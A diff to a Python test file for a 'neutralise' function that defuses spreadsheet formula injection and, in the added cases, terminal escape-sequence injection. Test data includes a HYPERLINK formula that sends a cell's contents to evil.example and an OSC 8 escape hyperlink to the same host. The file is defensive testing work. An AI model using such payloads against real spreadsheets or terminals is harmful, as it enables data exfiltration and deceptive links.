@@ -19,6 +19,10 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("-12.50", "-12.50"), ("+49", "+49"), ("-1,5", "-1,5"), ("1e5", "1e5"),
     ("Acme Tee", "Acme Tee"), ("", ""), (None, None), (12, 12), ("a=b", "a=b"),
+    # a terminal's escape sequences (colour, OSC 8 hyperlinks) lose their control characters
+    ("\x1b[31mred\x1b[0m", "[31mred[0m"),
+    ("\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "]8;;http://evil.exampleclick]8;;"),
+    ("\x00=1", "'=1"), ("a\tb\nc\r\nd", "a\tb\nc\r\nd"), ("\x9b2J", "2J"),
 ])
 def test_neutralise(value, expect):
     assert neutralise(value) == expect
